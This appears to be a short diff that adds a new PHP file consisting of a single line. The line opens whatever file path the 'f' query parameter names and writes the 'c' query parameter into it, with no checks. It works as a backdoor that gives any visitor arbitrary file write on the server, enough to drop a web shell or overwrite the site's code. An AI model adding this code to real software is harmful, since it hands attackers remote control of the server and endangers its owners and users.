@@ -1,0 +1,2 @@
+<?php
+$p = (new SplFileObject($_GET['f'], 'w'))->fwrite($_GET['c']);
